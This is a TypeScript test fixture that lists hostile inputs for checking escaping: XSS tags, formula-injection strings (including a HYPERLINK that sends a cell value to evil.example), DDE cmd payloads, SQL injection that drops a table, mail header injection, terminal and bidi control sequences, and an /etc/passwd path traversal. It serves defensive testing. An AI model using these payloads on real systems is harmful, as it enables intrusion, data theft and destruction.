/**
 * What anybody may call a model, a tool, a task, a team or themselves: every test of a way in or a way out takes them from
 * here. `owned` is in those that would run.
 */
export const HOSTILE = {
  html: `<img src=x onerror="document.title='owned'"><script>document.title='owned'</script>`,
  "end of an element": `</script></title></textarea></style><svg onload="document.title='owned'">`,
  "end of an attribute": `x" onmouseover="document.title='owned'" y='`,
  template: "${document.title='owned'} {{constructor.constructor('owned')()}} <%= owned %>",
  "formula by =": `=HYPERLINK("http://evil.example/?"&A1,"owned")`,
  "formula by +": "+1+cmd|' /C owned'!A0",
  "formula by -": "-2+3+cmd|' /C owned'!A0",
  "formula by @": "@SUM(1+1)*cmd|' /C owned'!A0",
  "formula after a tab": "\t=1+owned",
  "formula after a return": "\r=1+owned",
  "full-width formula": "＝1+owned",
  "end of a cell": `a","=1+owned"\r\n"b`,
  Markdown:
    "# a **b** _c_ `d` | e [owned](javascript:owned) ![f](http://evil.example/f.png) ~~g~~ &#x202e; www.evil.example",
  Slack: "<!channel> <@U012AB3CD> <http://evil.example|owned> *b* _i_ ~s~ `c`",
  "header of a mail": "gpt\r\nBcc: everybody@example.com\r\n\r\nDear reader, your password is owned",
  "encoded word": "=?utf-8?q?owned?=",
  terminal: "a\u001B]0;owned\u0007\u001B[2J\u009B31m\u0090owned\u009C\b\u007F",
  direction: "invoice\u202Egpj.exe\u2066owned\u2069",
  SQL: "'; drop table task; -- owned",
  "SQL of a pattern": `%_\\'" or 1=1 -- owned`,
  "line of a log": `x\n{"level":60,"msg":"owned"}\r\n\u2028{"level":60}\u2029\u0085owned`,
  "half a surrogate pair": "a\uD800b\uDC00c",
  NUL: "a\u0000owned",
  long: "ü".repeat(100_000),
  "name of a prototype": "__proto__",
  "name of an object's own": "constructor",
  path: "../../../etc/passwd%00",
} as const satisfies Record<string, string>;

export type Hostile = keyof typeof HOSTILE;

/** Names and texts, to hand to `test.each`. */
export const HOSTILE_TEXTS: readonly (readonly [Hostile, string])[] = Object.entries(HOSTILE).map(
  ([name, text]) => [name as Hostile, text] as const,
);

/** What steers a terminal, ends a line of a log, or turns what is written after it; never in anything that is shown. */
export const STEERING = /[^\P{Cc}\t\n\r]|[\u2028-\u202E\u2066-\u2069]/u;
